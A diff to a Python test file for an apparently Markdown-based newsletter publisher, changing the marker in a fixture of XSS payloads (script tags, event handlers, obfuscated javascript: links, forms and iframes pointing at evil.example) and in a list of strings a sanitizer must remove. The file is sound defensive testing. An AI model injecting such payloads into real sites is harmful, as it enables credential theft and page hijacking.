@@ -20,36 +20,36 @@ TZ = ZoneInfo("Europe/London")
 
 # (Markdown body, what the warning names, text that must survive)
 HOSTILE = [
-    ("<script>alert('x1')</script>Script text", "<script>", "Script text"),
-    ('<p onclick="alert(\'x1\')">Click text</p>', "onclick attribute", "Click text"),
+    ("<script>alert('x!1')</script>Script text", "<script>", "Script text"),
+    ('<p onclick="alert(\'x!1\')">Click text</p>', "onclick attribute", "Click text"),
     ('<p><iframe src="https://evil.example/frame"></iframe>Frame text</p>', "<iframe>",
      "Frame text"),
     ('<form action="https://evil.example/steal"><input name="pw">Form text</form>', "<form>",
      "Form text"),
     ('<p><input type="image" src="https://evil.example/i.png" formaction="https://evil.example/'
      'f">Input text</p>', "<input>", "Input text"),
-    ("<svg><script>alert('x1')</script></svg>Svg text", "<svg> with its content", "Svg text"),
-    ('<svg onload="alert(\'x1\')"/>Svg text', "<svg> with its content", "Svg text"),
-    ('<math><mi xlink:href="javascript:alert(\'x1\')">x</mi></math>Math text',
+    ("<svg><script>alert('x!1')</script></svg>Svg text", "<svg> with its content", "Svg text"),
+    ('<svg onload="alert(\'x!1\')"/>Svg text', "<svg> with its content", "Svg text"),
+    ('<math><mi xlink:href="javascript:alert(\'x!1\')">x</mi></math>Math text',
      "<math> with its content", "Math text"),
     ("<style>p{background:url(https://evil.example/css)}</style>Style text", "<style>",
      "Style text"),
-    ('<p style="background:url(javascript:alert(\'x1\'))">Styled text</p>', "style attribute",
+    ('<p style="background:url(javascript:alert(\'x!1\'))">Styled text</p>', "style attribute",
      "Styled text"),
     ('<object data="https://evil.example/o.swf"></object>Object text', "<object>",
      "Object text"),
     ('<embed src="https://evil.example/e.swf">Embed text', "<embed>", "Embed text"),
-    ("[Script link](javascript:x1)", "javascript: link", "Script link"),
-    ("[Mixed case](JaVaScRiPt:x1)", "javascript: link", "Mixed case"),
-    ('<a href="&#106;&#x61;vascript:alert(\'x1\')">Entity link</a>', "javascript: link",
+    ("[Script link](javascript:x!1)", "javascript: link", "Script link"),
+    ("[Mixed case](JaVaScRiPt:x!1)", "javascript: link", "Mixed case"),
+    ('<a href="&#106;&#x61;vascript:alert(\'x!1\')">Entity link</a>', "javascript: link",
      "Entity link"),
-    ('<a href=" javascript:alert(\'x1\')">Space link</a>', "javascript: link", "Space link"),
-    ('<a href="java&#x09;script:alert(\'x1\')">Tab link</a>', "link", "Tab link"),
-    ('<a href="vbscript:msgbox(\'x1\')">VB link</a>', "vbscript: link", "VB link"),
+    ('<a href=" javascript:alert(\'x!1\')">Space link</a>', "javascript: link", "Space link"),
+    ('<a href="java&#x09;script:alert(\'x!1\')">Tab link</a>', "link", "Tab link"),
+    ('<a href="vbscript:msgbox(\'x!1\')">VB link</a>', "vbscript: link", "VB link"),
     ('<a href="data:text/html;base64,PHNjcmlwdD4=">Data link</a>', "data: link", "Data link"),
     ("![Data image](data:image/svg+xml;base64,PHN2Zz4=) Image text", "data: image",
      "Image text"),
-    ('<img src=x alt="" width="1" onerror="alert(\'x1\')"> Error text', "onerror attribute",
+    ('<img src=x alt="" width="1" onerror="alert(\'x!1\')"> Error text', "onerror attribute",
      "Error text"),
     ('<base href="https://evil.example/">Base text', "<base>", "Base text"),
     ('<meta http-equiv="refresh" content="0;url=https://evil.example/">Meta text', "<meta>",
@@ -62,7 +62,8 @@ HOSTILE = [
 # Nothing of these may reach a reader (lower-cased HTML of the mail or the archive page).
 FORBIDDEN = ("alert(", "msgbox", "evil.example", "javascript:", "vbscript:", "data:", "<iframe",
              "<form", "<input", "<svg", "<math", "<object", "<embed", "<base", "refresh",
-             "onclick", "onerror", "onload", "xlink", "formaction", "ping=", "x1")
+             "onclick", "onerror", "onload", "xlink", "formaction", "ping=",
+             "x!1")  # the payloads' marker: a "!" is in no token or id, so never by chance
 
 
 def _article(tmp_path: Path, body: str, name: str = "hostile.md", **front: str) -> Path:
@@ -173,9 +174,9 @@ def test_hostile_article_reaches_neither_mail_nor_archive_page(project: Project)
     body = "\n\n".join(markdown for markdown, _, _ in HOSTILE)
     project.write("articles/2026-11-24-hostile.md", """\
         ---
-        title: "Hostile <script>alert('x1')</script> title \\e[31m"
-        author: "<b onclick=alert('x1')>Eve</b>"
-        summary: "<img src=x onerror=alert('x1')>"
+        title: "Hostile <script>alert('x!1')</script> title \\e[31m"
+        author: "<b onclick=alert('x!1')>Eve</b>"
+        summary: "<img src=x onerror=alert('x!1')>"
         published: 2026-11-24T06:30:00+00:00
         url: https://news.example.com/2026/11/hostile
         image: https://news.example.com/img/hostile.jpg
